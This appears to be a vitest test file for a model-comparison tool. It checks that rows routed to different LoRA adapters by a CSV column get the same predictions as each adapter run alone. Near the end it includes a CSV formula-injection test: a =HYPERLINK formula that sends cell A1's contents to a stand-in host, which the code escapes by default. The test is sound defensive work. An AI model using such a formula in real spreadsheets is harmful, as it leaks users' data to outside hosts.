/**
 * Several adapters over one base: rows of a file that each go to the adapter named in a column,
 * against every adapter by itself.
 */

import Papa from "papaparse";
import { expect, test } from "vitest";
import { BaseModel } from "../../src/base/base-model";
import { readTable } from "../../src/data/table";
import type { FormulaCells } from "../../src/data/write-csv";
import { predictTable } from "../../src/worker/predictions";
import { fixtureJson, fixtureModel } from "../fixtures/reference";
import { testExecutor } from "./executor";
import { createComparison, tinyData, tinyRows } from "./tiny-comparison";

test("a mixed file says of every row what its adapter says alone, on one copy of the weights", async () => {
  const executor = await testExecutor();
  const model = await BaseModel.load(executor, fixtureModel("tiny-llama"));
  const rows = await tinyRows(model, [12, 16, 9, 7]);
  const options = { rank: 4, alpha: 16, targets: "all-linear" };
  const names = ["one", "two", "three"];
  const { comparison } = createComparison(executor, model, {
    data: tinyData(rows, rows.slice(0, 2)),
    runs: names.map((name, seed) => ({ name, method: "lora", options, learningRate: 0.05, seed })),
    training: { steps: 2 },
  });
  await comparison.prepare();
  await comparison.train();
  const bytes = executor.memory.bytes();
  expect(bytes.weights).toBe(model.memoryBytes);

  const { rows: texts } = (await fixtureJson("cases/data.json")).tasks["sequence-classification"];
  const whose = ["B", "A", "C", "A", "B", "C", "A", "B"];
  const lines = whose.map((adapter, index) => ({
    id: `${index}`,
    // Lengths that change the batches' padding; the sixth row has no text.
    text: index === 5 ? " " : `${texts[index].text} `.repeat(1 + (index % 2)).slice(0, 20 + 9 * index),
    adapter,
  }));
  const table = await readTable(new File([Papa.unparse(lines)], "mixed.csv"));
  const sources = {
    tokenizer: model.tokenizer,
    of: () => ({ comparison, data: { ...tinyData(rows, rows), maxLength: 64 } }),
    progress: () => {},
  };
  const runs = { A: "one", B: "two", C: "three" };
  const columns = { text: "text", textPair: null };
  const read = ({ csv }: { csv: string }) => Papa.parse<Record<string, string>>(csv, { header: true }).data;
  const predict = (choice: Parameters<typeof predictTable>[2]) => predictTable(table, columns, choice, sources);

  const answer = await predict({ column: "adapter", runs });
  const mixed = read(answer);
  expect(answer.runs).toEqual([
    { run: "two", rows: 3 },
    { run: "one", rows: 3 },
    { run: "three", rows: 2 },
  ]);
  expect(mixed.map(({ id }) => id)).toEqual(lines.map(({ id }) => id));
  expect(answer.notices.join(" ")).toMatch(/1 row without text: no prediction \(row 7\)\. 5 rows cut to 16 tokens/);
  expect(mixed[5]).toMatchObject({ run: "three", prediction: "", probability: "" });
  const alone = new Map<string, Record<string, string>[]>();
  for (const name of names) alone.set(name, read(await predict({ run: name })));
  for (const [index, row] of mixed.entries()) {
    expect(row.run).toBe(runs[whose[index] as keyof typeof runs]);
    const single = alone.get(row.run!)![index]!;
    expect(row.prediction).toBe(single.prediction);
    if (index !== 5) expect(Math.abs(Number(row.probability) - Number(single.probability))).toBeLessThan(1e-5);
  }
  // Else one adapter for all would have passed as well.
  const first = names.map((name) => Number(alone.get(name)![0]!.probability));
  expect(new Set(first).size).toBe(3);

  const formula = '=HYPERLINK("http://example.invalid/?x="&A1)';
  const hostile = await readTable(new File([Papa.unparse([{ text: formula, note: "-1.5" }])], "hostile.csv"));
  const written = async (formulas?: FormulaCells) =>
    read(await predictTable(hostile, columns, { run: "one" }, { ...sources, formulas }))[0];
  expect(await written()).toMatchObject({ text: `'${formula}`, note: "-1.5" });
  expect(await written("asTheyAre")).toMatchObject({ text: formula, note: "-1.5" });
  expect(executor.memory.bytes()).toEqual(bytes);
  await comparison.release();
  model.release();
});
